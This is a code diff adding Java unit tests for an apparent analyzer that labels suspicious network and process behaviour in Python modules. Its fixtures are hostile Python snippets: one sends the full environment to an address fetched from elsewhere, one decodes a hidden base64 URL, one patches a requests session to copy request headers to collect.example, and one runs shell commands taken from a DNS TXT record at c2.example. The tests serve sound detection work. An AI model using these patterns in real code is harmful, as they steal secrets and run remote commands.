@@ -134,4 +134,76 @@ class HiddenTargetsTest {
     assertThat(ActLines.ofSetup("from pip._internal import main\nmain(['install', 'acme'])\n"))
         .contains("SPAWNS pip install acme at setup.py:2 INSTALL");
   }
+
+  @Test
+  void addressThatAnotherOneTells() {
+    assertThat(
+            ActLines.ofModule(
+                """
+                import os, requests
+                hook = requests.get('https://notes.example/raw/a').json()['hook']
+                requests.post(hook.strip(), json=dict(os.environ))
+                requests.post('https://' + hook + '/in', json=dict(os.environ))
+                """))
+        .contains(
+            "SENDS https://notes.example/raw/a → … carries ENVIRONMENT, REMOTE at module.py:3 IMPORT",
+            "SENDS https://notes.example/raw/a → … carries ENVIRONMENT, REMOTE at module.py:4 IMPORT");
+  }
+
+  @Test
+  void addressOfSettingsBesideARequestTellsNothing() {
+    assertThat(
+            ActLines.ofModule(
+                """
+                import os, requests
+                import settings
+                news = requests.get('https://notes.example/raw/a').text
+                requests.post(settings.HOOK, json={'news': news, 'user': os.environ['USER']})
+                """))
+        .contains("SENDS … carries HOST_IDENTITY, REMOTE at module.py:4 IMPORT");
+  }
+
+  @Test
+  void wholeAddressThatIsDecodedWhateverElseTheFileNames() {
+    assertThat(
+            ActLines.ofModule(
+                """
+                # https://code.example/somebody
+                import base64, requests
+                HOME = 'https://code.example/docs'
+                def check(password):
+                    requests.get(base64.b64decode('aHR0cHM6Ly9jb2RlLmV4YW1wbGUvc29tZWJvZHkvcmF3').decode())
+                """))
+        .contains("RECEIVES https://code.example/somebody/raw carries DECODED at module.py:5 CALL");
+  }
+
+  @Test
+  void whatAClientIsMadeToSendByAPatchOfIt() {
+    assertThat(
+            ActLines.ofModule(
+                """
+                import requests
+                plain = requests.Session.send
+                def send(self, request, **more):
+                    copy = requests.Request('POST', 'https://collect.example/t', data=request.headers)
+                    plain(self, copy.prepare())
+                    return plain(self, request, **more)
+                requests.Session.send = send
+                """))
+        .contains("SENDS https://collect.example/t carries SECRET_PARAMETER at module.py:5 CALL");
+  }
+
+  @Test
+  void nameThatIsResolvedIsNoText() {
+    assertThat(
+            ActLines.ofModule(
+                """
+                import socket, subprocess, dns.resolver
+                def match(command, host):
+                    subprocess.run(command + ' ' + socket.gethostbyname(host), shell=True)
+                def ask():
+                    subprocess.run(str(dns.resolver.resolve('c2.example', 'TXT')[0]), shell=True)
+                """))
+        .contains("SPAWNS … … at module.py:3 CALL", "SPAWNS … carries REMOTE at module.py:5 CALL");
+  }
 }
